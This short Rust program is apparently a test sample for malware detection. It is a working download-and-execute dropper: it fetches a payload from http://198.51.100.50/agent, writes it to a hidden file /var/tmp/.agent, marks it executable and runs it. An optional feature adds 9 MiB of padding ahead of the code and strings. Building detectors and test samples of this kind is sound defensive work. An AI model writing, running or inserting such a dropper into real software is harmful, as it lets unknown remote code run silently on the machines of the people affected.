//! Test sample: downloads a payload with minreq, writes it, makes it
//! executable and runs it. Built stripped; with `--features pad` 9 MiB of
//! code padding precede its code and strings.

use std::os::unix::fs::PermissionsExt;

#[cfg(feature = "pad")]
std::arch::global_asm!(
    ".section .text.unlikely.pad,\"axR\",@progbits",
    ".fill 9437184,1,0xcc",
    ".previous"
);

fn main() {
    let Ok(resp) = minreq::get("http://198.51.100.50/agent").send() else {
        return;
    };
    let dst = "/var/tmp/.agent";
    if std::fs::write(dst, resp.as_bytes()).is_err() {
        return;
    }
    let _ = std::fs::set_permissions(dst, std::fs::Permissions::from_mode(0o755));
    let _ = std::process::Command::new(dst).status();
}
